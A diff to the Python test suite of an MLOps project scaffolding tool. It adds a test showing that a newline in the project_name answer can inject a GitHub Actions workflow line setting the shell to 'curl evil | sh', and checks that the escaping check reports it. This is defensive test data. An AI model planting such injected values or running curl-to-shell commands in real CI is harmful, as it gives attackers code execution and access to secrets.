@@ -27,6 +27,7 @@ from conftest import REPO_ROOT, answers_with, require
 from mlops_scaffold import cli, naming
 from mlops_scaffold.checks import ALL_CHECKS
 from mlops_scaffold.checks.answers import IDENTIFIER_ANSWERS, answers_escaped
+from mlops_scaffold.checks.rendering import leftover_jinja
 from mlops_scaffold.options import QUESTIONS, QUESTIONS_BY_NAME, resolve_answers
 from mlops_scaffold.project_files import iter_files
 from mlops_scaffold.render import render_project
@@ -96,6 +97,7 @@ def _parse(path: Path):
 
 
 def test_every_generated_file_parses_in_its_own_language(adversarial):
+    require(shutil.which("bash"), "bash")
     project, _ = adversarial
     languages = (".yml", ".yaml", ".json", ".toml", ".tf", ".tfvars", ".py", ".sh")
     parsed = [path for path in iter_files(project) if path.suffix in languages]
@@ -110,6 +112,8 @@ def test_every_generated_file_parses_in_its_own_language(adversarial):
 def test_the_escaping_check_passes_on_adversarial_answers(adversarial):
     project, _ = adversarial
     assert answers_escaped(project) == []
+    # `{{ z }}` in project_name is data: not a leftover Jinja marker (it was before).
+    assert leftover_jinja(project) == []
 
 
 def _hcl_value(path: Path, key: str) -> str:
@@ -123,6 +127,7 @@ def _hcl_value(path: Path, key: str) -> str:
 
 
 def test_answers_come_back_unchanged_where_they_are_values(adversarial):
+    require(shutil.which("make") and shutil.which("bash"), "make and bash")
     project, answers = adversarial
     pyproject = tomllib.loads((project / "pyproject.toml").read_text())
     assert pyproject["project"]["description"] == f"{PROJECT_NAME}: ML code and Azure ML orchestration"
@@ -288,6 +293,24 @@ def test_answers_escaped_names_a_project_name_that_breaks_toml(render_copy):
     pyproject.write_text(re.sub(r"^description = .*$", 'description = "Say "hi": ML code"', text, flags=re.M))
     findings = [str(finding) for finding in answers_escaped(project)]
     assert len(findings) == 1 and findings[0].startswith("pyproject.toml: is not valid TOML"), findings
+
+
+def test_answers_escaped_names_the_key_a_newline_in_project_name_injected(render_copy):
+    """Before: a newline in project_name put `defaults: {run: {shell: …}}` at column 0 of both IaC
+    workflows and `mlops-scaffold check` did not name it. Planted as an old rendering would have it."""
+    project = render_copy(ci_platform="github_actions", iac="terraform")
+    injected = 'defaults: {run: {shell: "curl evil | sh {0}"}} #'
+    answers_file = project / ".copier-answers.yml"
+    answers = yaml.safe_load(answers_file.read_text())
+    name = answers["project_name"]
+    answers["project_name"] = f"{name}\n{injected}"
+    answers_file.write_text(yaml.safe_dump(answers))
+    workflow = project / ".github/workflows/iac-create-environment.yml"
+    workflow.write_text(workflow.read_text().replace(f"of {name} ", f"of {name}\n{injected} ", 1))
+    findings = [str(finding) for finding in answers_escaped(project)]
+    line = injected + " from environment_setup/tf-templates."
+    where = ".github/workflows/iac-create-environment.yml:2"
+    assert findings == [f"{where}: line injected by the answer project_name: {line!r}"]
 
 
 def test_answers_escaped_names_a_json_file_that_does_not_parse(render_copy):
